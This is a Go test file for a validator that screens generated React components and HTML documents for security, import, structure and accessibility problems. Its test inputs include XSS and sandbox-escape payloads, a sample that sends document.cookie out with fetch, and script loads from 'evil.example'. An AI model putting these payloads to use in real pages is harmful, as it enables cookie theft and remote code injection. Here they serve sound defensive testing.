package validator

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"uigen/internal/domain"
)

const validButton = `import React from 'react';
import Button from '@mui/material/Button';

export interface PrimaryButtonProps {
  label: string;
  onClick?: () => void;
}

export default function PrimaryButton({ label, onClick }: PrimaryButtonProps) {
  return (
    <Button variant="contained" onClick={onClick}>
      {label}
    </Button>
  );
}
`

func newTestValidator() *Validator {
	return New(zerolog.Nop())
}

func findingCodes(fs []Finding) []string {
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		out = append(out, string(f.Kind)+"/"+f.Code)
	}
	return out
}

func TestValidComponentPassesEveryCheck(t *testing.T) {
	out := newTestValidator().Validate(context.Background(), validButton, domain.CategoryButton)

	assert.True(t, out.Valid)
	assert.True(t, out.Compiles())
	assert.True(t, out.Acceptable())
	assert.Empty(t, out.Findings, "findings: %v", findingCodes(out.Findings))
	assert.Equal(t, 100, out.AccessibilityScore)
	for _, c := range []Check{CheckCompile, CheckSecurity, CheckImports, CheckStructure, CheckAccessibility} {
		assert.True(t, out.Checks[c], "check %s", c)
	}
}

func TestWindowLocationAssignmentIsInvalid(t *testing.T) {
	out := newTestValidator().Validate(context.Background(), "window.location = 'x';\n", domain.CategoryCustom)

	require.False(t, out.Valid)
	var found bool
	for _, f := range out.Findings {
		if f.Kind == KindSecurity && f.Code == "forbidden-pattern" {
			found = true
			assert.Equal(t, 1, f.Line)
			assert.Equal(t, SeverityError, f.Severity)
		}
	}
	assert.True(t, found, "findings: %v", findingCodes(out.Findings))
}

func TestForbiddenPatterns(t *testing.T) {
	cases := map[string]string{
		"eval":            `const x = eval("1+1");`,
		"function ctor":   `const f = new Function("return 1");`,
		"timer":           `setTimeout(() => {}, 10);`,
		"fetch":           `fetch("/api");`,
		"xhr":             `const r = new XMLHttpRequest();`,
		"storage":         `const v = localStorage.getItem("k");`,
		"script tag":      `const s = "<script>alert(1)</script>";`,
		"javascript url":  `const a = <a href="javascript:alert(1)">x</a>;`,
		"inline handler":  `const s = "<div onclick=alert(1)></div>";`,
		"inner html":      `const d = <div dangerouslySetInnerHTML={{ __html: "x" }} />;`,
		"document access": `const b = document.body;`,
		"globalThis":      `const g = globalThis;`,
	}
	v := newTestValidator()
	for name, code := range cases {
		t.Run(name, func(t *testing.T) {
			out := v.Validate(context.Background(), code, domain.CategoryCustom)
			assert.False(t, out.Valid, "findings: %v", findingCodes(out.Findings))
			assert.True(t, out.HasKind(KindSecurity))
		})
	}
}

func TestSecurityTreeWalk(t *testing.T) {
	v := newTestValidator()

	out := v.Validate(context.Background(), "const w = self['win' + 'dow'];\n", domain.CategoryCustom)
	assert.Contains(t, findingCodes(out.Warnings()), "security/dynamic-access")
	assert.Contains(t, findingCodes(out.Errors()), "security/forbidden-identifier")
	assert.False(t, out.Valid)

	out = v.Validate(context.Background(), "const c = ({})['constructor'];\n", domain.CategoryCustom)
	assert.Contains(t, findingCodes(out.Warnings()), "security/constructor-access")
	assert.True(t, out.Valid, "a single constructor lookup is only a warning")

	out = v.Validate(context.Background(), "const F = ({}).constructor.constructor;\n", domain.CategoryCustom)
	assert.Contains(t, findingCodes(out.Errors()), "security/constructor-escape")
	assert.False(t, out.Valid)

	out = v.Validate(context.Background(), "const f = fetch;\n", domain.CategoryCustom)
	assert.Contains(t, findingCodes(out.Errors()), "security/forbidden-identifier")
}

func TestHostGlobalsAreForbidden(t *testing.T) {
	cases := map[string]string{
		"parent alias":     "const host: any = parent;\nhost['fe' + 'tch']('/v1/components');\n",
		"top navigation":   "const go = () => { top.location.hash = 'x'; };\n",
		"self":             "const me = self;\n",
		"opener":           "const o = opener;\n",
		"frames":           "const f = frames.length;\n",
		"location":         "const where = location.href;\n",
		"navigator":        "const agent = navigator.userAgent;\n",
		"location in prop": "const Card = () => <div title={location.hash} />;\n",
	}
	v := newTestValidator()
	for name, code := range cases {
		t.Run(name, func(t *testing.T) {
			out := v.Validate(context.Background(), code, domain.CategoryCustom)
			assert.False(t, out.Valid)
			assert.Contains(t, findingCodes(out.Errors()), "security/forbidden-identifier")
		})
	}

	out := v.Validate(context.Background(), "const styles = { top: 0, position: 'sticky' };\nconst parentId = 'x';\n", domain.CategoryCustom)
	assert.True(t, out.Valid, "findings: %v", findingCodes(out.Findings))
}

func TestProseIsNotCode(t *testing.T) {
	code := `import React from 'react';
import Typography from '@mui/material/Typography';

export interface NoticeProps { open: boolean }

// Closing the window. keeps the draft.
export default function Notice({ open }: NoticeProps) {
  return <Typography>Close this window. Your document. is saved.</Typography>;
}
`
	out := newTestValidator().Validate(context.Background(), code, domain.CategoryCustom)
	assert.True(t, out.Valid, "findings: %v", findingCodes(out.Findings))
	assert.False(t, out.HasKind(KindSecurity))

	out = newTestValidator().Validate(context.Background(), "const t = <p>{window.name}</p>;\n", domain.CategoryCustom)
	assert.False(t, out.Valid, "expressions inside JSX are still code")
}

func TestImportAllowList(t *testing.T) {
	cases := []struct {
		name    string
		code    string
		valid   bool
		mention string
	}{
		{name: "react", code: `import React from 'react';`, valid: true},
		{name: "mui subpath", code: `import Button from '@mui/material/Button';`, valid: true},
		{name: "icons", code: `import Delete from '@mui/icons-material/Delete';`, valid: true},
		{name: "relative", code: `import { x } from './x';`, valid: true},
		{name: "axios", code: `import axios from 'axios';`, mention: "axios"},
		{name: "prefix trick", code: `import r from 'react-evil';`, mention: "react-evil"},
		{name: "re-export", code: `export { a } from 'lodash';`, mention: "lodash"},
		{name: "dynamic", code: `const m = import('left-pad');`, mention: "left-pad"},
		{name: "require", code: `const fs = require('fs');`, mention: "fs"},
		{name: "computed", code: "const name = 'x';\nconst m = import(name);", mention: "name"},
	}
	v := newTestValidator()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out := v.Validate(context.Background(), tc.code, domain.CategoryCustom)
			if tc.valid {
				assert.True(t, out.Checks[CheckImports], "findings: %v", findingCodes(out.Findings))
				return
			}
			assert.False(t, out.Valid)
			var msgs []string
			for _, f := range out.Findings {
				if f.Kind == KindImport {
					msgs = append(msgs, f.Message)
				}
			}
			require.NotEmpty(t, msgs)
			assert.Contains(t, strings.Join(msgs, "\n"), tc.mention)
		})
	}
}

func TestImportFallbackOnBrokenSyntax(t *testing.T) {
	code := "import axios from 'axios';\nexport default function Broken( {\n"
	out := newTestValidator().Validate(context.Background(), code, domain.CategoryCustom)

	assert.False(t, out.Valid)
	assert.False(t, out.Compiles())
	assert.Contains(t, findingCodes(out.Errors()), "import/forbidden-import")
}

func TestStructureFindingsDoNotGateValidity(t *testing.T) {
	code := `import React from 'react';

function Card() {
  return <div>card</div>;
}

function Other() {
  return <span />;
}
`
	out := newTestValidator().Validate(context.Background(), code, domain.CategoryCard)

	assert.True(t, out.Valid)
	codes := findingCodes(out.Warnings())
	assert.Contains(t, codes, "structure/multiple-components")
	assert.Contains(t, codes, "structure/missing-default-export")
	assert.True(t, out.Checks[CheckStructure], "structure warnings keep the check valid")
}

func TestBaseUILibraryImport(t *testing.T) {
	reactOnly := `import React from 'react';

export interface BadgeProps { label: string }

export default function Badge({ label }: BadgeProps) {
  return <span>{label}</span>;
}
`
	out := newTestValidator().Validate(context.Background(), reactOnly, domain.CategoryCustom)
	assert.True(t, out.Valid)
	assert.Contains(t, findingCodes(out.Warnings()), "structure/missing-ui-import")

	barrel := strings.Replace(reactOnly, "import React from 'react';", "import React from 'react';\nimport { Chip } from '@mui/material';", 1)
	out = newTestValidator().Validate(context.Background(), barrel, domain.CategoryCustom)
	assert.NotContains(t, findingCodes(out.Warnings()), "structure/missing-ui-import")

	shape := scanShape(newSource(context.Background(), "import Chip from '@mui/material/Chip';\n", "", nil))
	assert.True(t, shape.uiImport)
	shape = scanShape(newSource(context.Background(), "import Icon from '@mui/icons-material/Add';\n", "", nil))
	assert.False(t, shape.uiImport, "icons are not the base library")
}

func TestMissingPropsType(t *testing.T) {
	code := `import React from 'react';

const Badge = () => <span>new</span>;

export default Badge;
`
	out := newTestValidator().Validate(context.Background(), code, domain.CategoryCustom)
	assert.Contains(t, findingCodes(out.Warnings()), "structure/missing-props-type")
	assert.NotContains(t, findingCodes(out.Warnings()), "structure/missing-default-export")
}

func TestAccessibilityScore(t *testing.T) {
	code := `import React from 'react';
import IconButton from '@mui/material/IconButton';
import Delete from '@mui/icons-material/Delete';

export interface TrashProps { onDelete: () => void }

export default function Trash({ onDelete }: TrashProps) {
  return (
    <div>
      <IconButton onClick={() => onDelete()}><Delete /></IconButton>
      <img src="/trash.png" />
    </div>
  );
}
`
	out := newTestValidator().Validate(context.Background(), code, domain.CategoryButton)

	assert.True(t, out.Valid, "accessibility never fails validity")
	codes := findingCodes(out.Warnings())
	assert.Contains(t, codes, "accessibility/icon-button-label")
	assert.Contains(t, codes, "accessibility/image-alt")
	assert.Equal(t, 80, out.AccessibilityScore)
}

func TestAccessibilityLabelInsideArrowHandler(t *testing.T) {
	code := `<IconButton onClick={() => go()} aria-label="delete"><Delete /></IconButton>`
	res := CheckAccessibilitySource(newSource(context.Background(), code, "", nil))
	assert.Empty(t, res.Findings)
	assert.Equal(t, 100, res.Score)
}

func TestValidateConcurrentUse(t *testing.T) {
	v := newTestValidator()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			code := validButton
			if i%2 == 1 {
				code = "window.location = 'x';"
			}
			out := v.Validate(context.Background(), code, domain.CategoryButton)
			assert.Equal(t, i%2 == 0, out.Valid)
		}(i)
	}
	wg.Wait()
}

func TestAggregate(t *testing.T) {
	out := Aggregate(
		CheckResult{Check: CheckStructure, Findings: []Finding{{Kind: KindStructure, Code: "x", Severity: SeverityError, Line: 3}}},
		CheckResult{Check: CheckAccessibility, Score: 70},
		CheckResult{Check: CheckSecurity},
	)
	assert.True(t, out.Valid, "only security and import errors gate validity")
	assert.False(t, out.Checks[CheckStructure])
	assert.Equal(t, 70, out.AccessibilityScore)

	out = Aggregate(CheckResult{Check: CheckImports, Findings: []Finding{{Kind: KindImport, Code: "forbidden-import", Severity: SeverityError}}})
	assert.False(t, out.Valid)
}

func TestHelpers(t *testing.T) {
	assert.Equal(t, []string{"react", "@mui/material/Button"}, ImportSpecifiers(validButton))

	name, ok := ComponentName(validButton)
	require.True(t, ok)
	assert.Equal(t, "PrimaryButton", name)

	assert.Equal(t, domain.ValidationSummary{Valid: true, AccessibilityScore: 100},
		Summary(Outcome{Valid: true, AccessibilityScore: 100}))
}

func TestValidateDocument(t *testing.T) {
	v := newTestValidator()
	ctx := context.Background()

	safe := `<!doctype html><html><head>
<script src="https://unpkg.com/react@18/umd/react.production.min.js"></script>
<script>var ready = 1 + 1;</script>
</head><body><div id="app">plan</div></body></html>`
	out := v.ValidateDocument(ctx, safe)
	assert.True(t, out.Valid, "findings: %v", findingCodes(out.Findings))

	hostile := "<html><body><script>parent.document.body.innerHTML='pwned'; fetch('/x?'+document.cookie); eval(atob('x'))</script></body></html>"
	out = v.ValidateDocument(ctx, hostile)
	assert.False(t, out.Valid)
	assert.Contains(t, findingCodes(out.Errors()), "security/forbidden-identifier")

	cases := map[string]struct {
		doc  string
		code string
	}{
		"iframe":           {`<body><iframe src="/v1/components"></iframe></body>`, "security/forbidden-element"},
		"srcdoc":           {`<body><div srcdoc="x"></div></body>`, "security/forbidden-element"},
		"meta refresh":     {`<head><meta http-equiv="Refresh" content="0;url=/"></head>`, "security/forbidden-element"},
		"javascript href":  {`<body><a href="java&#9;script:alert(1)">x</a></body>`, "security/script-url"},
		"event handler":    {`<body><button onclick="parent.x = 1">x</button></body>`, "security/forbidden-identifier"},
		"foreign script":   {`<head><script src="https://evil.example/x.js"></script></head>`, "security/forbidden-script-source"},
		"plain http unpkg": {`<head><script src="http://unpkg.com/react"></script></head>`, "security/forbidden-script-source"},
		"import map":       {`<head><script type="importmap">{}</script></head>`, "security/forbidden-script-source"},
		"inline import":    {`<body><script>import('https://evil.example/x.js')</script></body>`, "import/forbidden-import"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			out := v.ValidateDocument(ctx, tc.doc)
			assert.False(t, out.Valid)
			assert.Contains(t, findingCodes(out.Errors()), tc.code)
		})
	}
}

func TestValidateDocumentReportsDocumentLines(t *testing.T) {
	doc := "<html><body>\n<script>\nvar ok = 1;\nparent.postMessage('x', '*');\n</script>\n</body></html>"
	out := newTestValidator().ValidateDocument(context.Background(), doc)
	require.False(t, out.Valid)

	var lines []int
	for _, f := range out.Errors() {
		if f.Code == "forbidden-identifier" {
			lines = append(lines, f.Line)
		}
	}
	assert.Equal(t, []int{4}, lines)
}
